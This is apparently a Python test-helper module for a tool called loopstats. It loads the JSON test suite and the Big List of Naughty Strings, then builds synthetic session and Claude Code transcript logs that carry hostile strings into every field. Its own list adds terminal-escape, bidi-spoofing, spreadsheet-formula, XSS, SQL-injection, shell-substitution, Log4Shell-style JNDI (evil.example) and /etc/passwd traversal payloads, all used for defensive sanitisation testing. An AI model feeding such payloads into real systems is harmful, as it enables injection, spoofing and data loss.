"""Hostile content for tests: the JSON test suite, naughty strings, and what must never be in an output.

A room of its own because several tests plant the same things and look for the same harm.
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any
from unittest import mock

from loopstats import hook

DATA = Path(__file__).parent / "data"

# Control characters but for the line end, bidirectional ones, zero-width ones, and separators that end a line somewhere.
HARMFUL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]")


def json_cases() -> dict[str, bytes]:
    """The cases of the JSON test suite by name."""
    raw = json.loads((DATA / "json_test_suite" / "cases.json").read_text(encoding="ascii"))
    return {name: _bytes(value) for part in ("parsing", "transform") for name, value in raw[part].items()}


def _bytes(value: Any) -> bytes:
    text = value if isinstance(value, str) else value["repeat"] * value["times"] + value["end"]
    return text.encode("latin-1")


def naughty() -> list[str]:
    """The Big List of Naughty Strings, and some that are naughty here."""
    listed: list[str] = json.loads((DATA / "naughty_strings" / "blns.json").read_text(encoding="utf-8"))
    return listed + OWN


OWN = [
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x9b31m\x9d0;t\x9c",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\\x1b[6n\x1b[c",
    "user\u202egpj.exe\u202c \u2066\u2067\u2068x\u2069 \u061c\u200e\u200f",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "a\u2028b\u2029c\x85d\x0be\x0cf",
    "\x00NUL\x00",
    "\ud800 lone \udfff",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r\n=1+1",
    "-2+3+cmd|'/c calc'!A1",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <img src=x onerror=alert(1)> | a | b |",
    "</script><script>alert(1)</script>",
    "[red]bold[/red] [link=http://evil.example]x[/link] [/]",
    "'; DROP TABLE loops; --",
    "\"; COPY loops TO 'x'; --",
    "$(touch pwned) `touch pwned` && touch pwned",
    "{0} {} %s %n %(x)s ${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\ufffe\uffff\U0001fffe\U0010ffff",
    "\ue000\ue003\ue01f",
]
"""Strings that aim at a terminal, a spreadsheet, a page, a shell, a query, or at this program's own marks."""


def run(
    *arguments: str,
    env: dict[str, str] | None = None,
    stdin: bytes = b"",
    cwd: Path | None = None,
    timeout: float = 120,
) -> subprocess.CompletedProcess[bytes]:
    """The program in a process of its own."""
    return subprocess.run(
        [sys.executable, "-m", "loopstats.cli", *arguments],
        input=stdin,
        capture_output=True,
        env={**os.environ, "COLUMNS": "200"} | (env or {}),
        cwd=cwd,
        timeout=timeout,
        check=False,
    )


def hook_in_process(data: bytes, environment: dict[str, str]) -> bytes:
    """What the hook answers to `data` on stdin, in this process; signals are left as they were."""
    ends = [os.pipe(), os.pipe()]
    os.write(ends[0][1], data)
    kept = os.dup(0), os.dup(1)
    heard = {
        number: signal.getsignal(number) for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM)
    }
    blocked = signal.pthread_sigmask(signal.SIG_BLOCK, ())
    os.dup2(ends[0][0], 0)
    os.dup2(ends[1][1], 1)
    for end in (*ends[0], ends[1][1]):
        os.close(end)
    rest = {name: word for name, word in os.environ.items() if not name.startswith(("XDG_", "LOOPSTATS_"))}
    try:
        with mock.patch.dict(os.environ, rest | environment, clear=True):
            assert hook.main([]) == 0
    finally:
        signal.alarm(0)  # its own time limit would end this process
        for number, action in heard.items():
            signal.signal(number, action)
        signal.pthread_sigmask(signal.SIG_SETMASK, blocked)
        os.dup2(kept[0], 0)
        os.dup2(kept[1], 1)
        for end in kept:
            os.close(end)
    with os.fdopen(ends[1][0], "rb") as answer:
        return answer.read()


def files_below(folder: Path) -> dict[str, bytes]:
    """All files below `folder` with their bytes, to see that nothing changed."""
    return {str(path.relative_to(folder)): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def utf8(text: str) -> str:
    """The text as UTF-8 can hold it."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


def native_log(texts: list[str], first: int = 0) -> bytes:
    """Per text a session with a loop, drift, guard, delivery and fact, the text in every field that takes one."""
    lines: list[dict[str, Any]] = []
    for number, text in enumerate(texts, first):
        common = {"v": 1, "session": f"{text}#{number}"}
        start = 1_793_000_000 + number * 1000
        lines.append(
            common
            | dict.fromkeys(("cwd", "project", "harness", "model", "task", "group", "epoch"), text)
            | {"type": "session", "ts": start, "experiment": OWN[number % 4]}
            | {"salt_id": text, "share_bp": 5000, "rule_digest": text}
        )
        words = dict.fromkeys(("action", "cycle", "error_code", "outcome_reason", "overflow"), text)
        lines += [
            common
            | words
            | {"type": "step", "id": f"{text}{step}", "ts": start + step + 1, "tool": text, "kind": "edit"}
            | {
                "model": text,
                "outcome": "failure" if step < 9 else "success",
                "message": text,
                "decision": f"{text}{step}",
            }
            | {"target": f"{text}{step % 2}", "targets": [text], "fingerprint": text, "state_hash": text}
            | {"tokens": {"input": 10, "output": 1}, "signature": "5" * 16, "truncated": True}
            for step in range(11)
        ]
        lines.append(
            common
            | dict.fromkeys(("experiment", "signature", "arm", "reason", "text_sha256", "step"), text)
            | {"type": "delivery", "delivered": True, "tier": 1, "ts": start + 3}
        )
        lines.append(
            common
            | dict.fromkeys(("experiment", "rule", "rule_digest", "arm", "epoch", "step"), text)
            | {"type": "loop", "signature": "5" * 16, "ts": start + 3, "arm_bp": 1, "share_bp": 5000}
        )
        lines.append(
            common | dict.fromkeys(("name", "event", "by"), text) | {"type": "guard", "tier": 3, "ts": start + 4}
        )
        lines.append(
            common | dict.fromkeys(("ending", "bait", "expected_ending"), text) | {"type": "result", "ts": start + 20}
        )
        lines.append(common | {"type": text or "-", "ts": start + 21})
    return b"".join(json.dumps(line).encode() + b"\n" for line in lines)


def claude_log(texts: list[str]) -> bytes:
    """Per text a session of a Claude Code transcript in which two calls fail and say it."""
    lines: list[dict[str, Any]] = []
    for number, text in enumerate(texts):
        common = {"sessionId": f"{text}@{number}", "cwd": f"/{text}", "gitBranch": text, "version": text}
        for step in range(3):
            stamp = {"timestamp": f"2026-02-03T10:{number % 60:02d}:{step:02d}.000Z"}
            call = f"{text}-{number}-{step}"
            block = {
                "type": "tool_use",
                "id": call,
                "name": text,
                "input": {"command": text, "file_path": f"{text}{step}"},
            }
            message = {"id": f"{call}m", "role": "assistant", "model": text, "content": [block]}
            lines.append(common | stamp | {"type": "assistant", "uuid": f"{call}u", "message": message})
            result = {"type": "tool_result", "tool_use_id": call, "is_error": True, "content": f"Error: {text}\n{text}"}
            lines.append(
                common | stamp | {"type": "user", "uuid": f"{call}r", "message": {"role": "user", "content": [result]}}
            )
    return b"".join(json.dumps(line).encode() + b"\n" for line in lines)


def file_name(text: str) -> str | None:
    """The text as the name of a file, where a file can have it."""
    name = text.replace("/", "\u2215").replace("\x00", "")
    data = os.fsencode(utf8(name) + ".jsonl")
    return os.fsdecode(data) if name and len(data) <= 255 else None
